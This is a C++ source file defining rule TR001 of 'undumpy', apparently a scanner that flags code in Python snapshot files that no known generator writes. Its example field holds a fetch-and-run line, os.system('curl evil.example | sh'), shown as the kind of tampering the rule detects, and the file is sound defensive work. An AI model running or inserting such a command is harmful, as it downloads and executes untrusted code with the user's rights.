#include "analyzer/rules/list.h"

namespace undumpy::rules {

const Rule foreign_statement{
    .code = "TR001",
    .name = "foreign-statement",
    .severe_for_reader = true,
    .what =
        "A statement that no generator writes, in restore.py or in a data module.\n"
        "\n"
        "Every statement is compared with what the generations of dump2py write. There is no "
        "list of dangerous names: what is not known to be generated is foreign. Forms that "
        "people use to help create_ functions are edits (TR013), not foreign.",
    .why =
        "A snapshot is a program. Python would run this statement with all rights of the "
        "person who restores. undumpy runs no module, and of restore.py only what create_ "
        "functions need, in its own interpreter; but a snapshot that holds foreign code was "
        "changed by somebody after it was made.",
    .example =
        "import os\n"
        "os.system('curl evil.example | sh')",
    .next =
        "Find out who wrote it and what for. Take it out when it is not needed; restore from "
        "an untouched copy of the snapshot when nobody knows.",
};

}  // namespace undumpy::rules
